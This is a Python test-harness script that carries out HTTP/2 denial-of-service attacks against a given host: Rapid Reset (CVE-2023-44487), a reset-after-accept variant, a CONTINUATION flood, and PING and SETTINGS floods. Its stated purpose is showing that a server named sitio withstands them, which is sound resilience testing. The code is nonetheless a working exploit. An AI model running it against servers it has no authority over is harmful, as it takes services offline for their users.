#!/usr/bin/env python3
"""HTTP/2 attacks on a server, frame by frame (the h2 and hyperframe
libraries from PyPI), for the tests that show sitio survives them.

Usage: h2_attack.py MODE HOST PORT [N]

  rapid-reset    N streams, each HEADERS then RST_STREAM(CANCEL) at once
                 (CVE-2023-44487)
  reset-after-accept  rounds of 100 streams, reset a moment after they
                 were opened (once the server took them up)
  continuation   one HEADERS without END_HEADERS, then CONTINUATION frames
                 of 16 KiB each, up to N MiB (the 2024 CONTINUATION flood)
  ping-flood     N PING frames, written without reading the answers
  settings-flood N SETTINGS frames, written without reading the answers

Prints one line per fact, ending with how the server ended it:
  SENT <frames>              frames written before the server stopped us
  GOAWAY <error code name> <last stream id>   when the server sent one
  CLOSED                     when the server closed the connection
  OPEN                       when it was still open after everything
"""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(host, port):
    s = socket.create_connection((host, port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def head_block(conn, path="/"):
    return conn.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "t"), (":path", path)])


class Watch:
    """Reads what the server sends without blocking, noting a GOAWAY or a close."""

    def __init__(self, s):
        self.s = s
        self.goaway = None
        self.closed = False
        self.events = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.buf = b""

    def poll(self):
        self.s.setblocking(False)
        try:
            while True:
                data = self.s.recv(65536)
                if not data:
                    self.closed = True
                    break
                self.scan(data)
        except (BlockingIOError, InterruptedError):
            pass
        except (ConnectionResetError, BrokenPipeError):
            self.closed = True
        finally:
            self.s.setblocking(True)

    def scan(self, data):
        # Frames only (type 7 is GOAWAY): a full parser would choke on
        # answers to streams it did not open.
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind, payload = self.buf[3], self.buf[9:9 + length]
            if kind == 7 and self.goaway is None:
                last = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                code = int.from_bytes(payload[4:8], "big")
                self.goaway = (code, last)
            self.buf = self.buf[9 + length:]

    def send(self, data):
        try:
            self.s.sendall(data)
            return True
        except (ConnectionResetError, BrokenPipeError):
            self.closed = True
            return False


CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 7: "REFUSED_STREAM",
         8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM", 13: "HTTP_1_1_REQUIRED"}


def finish(w, sent):
    print("SENT", sent, flush=True)
    deadline = time.time() + 3
    while time.time() < deadline and not w.closed:
        w.poll()
        time.sleep(0.05)
    if w.goaway:
        print("GOAWAY", CODES.get(w.goaway[0], w.goaway[0]), w.goaway[1], flush=True)
    print("CLOSED" if w.closed else "OPEN", flush=True)


def rapid_reset(host, port, n):
    s, conn = connect(host, port)
    w = Watch(s)
    sent = 0
    stream = 1
    for batch in range(0, n, 100):
        out = b""
        for _ in range(min(100, n - batch)):
            h = HeadersFrame(stream, head_block(conn))
            h.flags.add("END_HEADERS")
            h.flags.add("END_STREAM")
            r = RstStreamFrame(stream)
            r.error_code = 8
            out += h.serialize() + r.serialize()
            stream += 2
        if not w.send(out):
            break
        sent += min(100, n - batch)
        w.poll()
        if w.closed or w.goaway:
            break
    finish(w, sent)


def reset_after_accept(host, port, n):
    """Rounds of 100 streams opened, left a moment for the server to take
    them up, then all reset: under the limit on streams reset before they
    are accepted, and each one a request the server starts working on."""
    s, conn = connect(host, port)
    w = Watch(s)
    sent = 0
    stream = 1
    while sent < n:
        ids = []
        out = b""
        for _ in range(100):
            h = HeadersFrame(stream, head_block(conn, "/slow"))
            h.flags.add("END_HEADERS")
            h.flags.add("END_STREAM")
            out += h.serialize()
            ids.append(stream)
            stream += 2
        if not w.send(out):
            break
        time.sleep(0.005)
        out = b""
        for i in ids:
            r = RstStreamFrame(i)
            r.error_code = 8
            out += r.serialize()
        if not w.send(out):
            break
        sent += len(ids)
        w.poll()
        if w.closed or w.goaway:
            break
    finish(w, sent)


def continuation(host, port, mib):
    s, conn = connect(host, port)
    w = Watch(s)
    h = HeadersFrame(1, head_block(conn))
    w.send(h.serialize())
    # Literal header fields without indexing, new names: 16 KiB a frame.
    field = b"\x00\x05x-pad\x64" + b"a" * 100
    block = field * (16384 // len(field))
    sent = 0
    for _ in range(mib * 64):
        c = ContinuationFrame(1, block)
        if not w.send(c.serialize()):
            break
        sent += 1
        if sent % 16 == 0:
            w.poll()
            if w.closed or w.goaway:
                break
    finish(w, sent)


def flood(host, port, n, make):
    s, conn = connect(host, port)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    w = Watch(s)
    s.settimeout(5)
    sent = 0
    try:
        for batch in range(0, n, 500):
            out = b"".join(make(i).serialize() for i in range(batch, min(n, batch + 500)))
            s.sendall(out)
            sent += min(500, n - batch)
    except (socket.timeout, ConnectionResetError, BrokenPipeError):
        pass
    s.settimeout(None)
    w.poll()
    finish(w, sent)


def ping(i):
    return PingFrame(0, i.to_bytes(8, "big"))


def settings(i):
    f = SettingsFrame(0)
    f.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 65535 + (i % 2)
    return f


if __name__ == "__main__":
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    n = int(sys.argv[4]) if len(sys.argv) > 4 else 0
    {
        "rapid-reset": lambda: rapid_reset(host, port, n or 20000),
        "reset-after-accept": lambda: reset_after_accept(host, port, n or 20000),
        "continuation": lambda: continuation(host, port, n or 64),
        "ping-flood": lambda: flood(host, port, n or 200000, ping),
        "settings-flood": lambda: flood(host, port, n or 200000, settings),
    }[mode]()
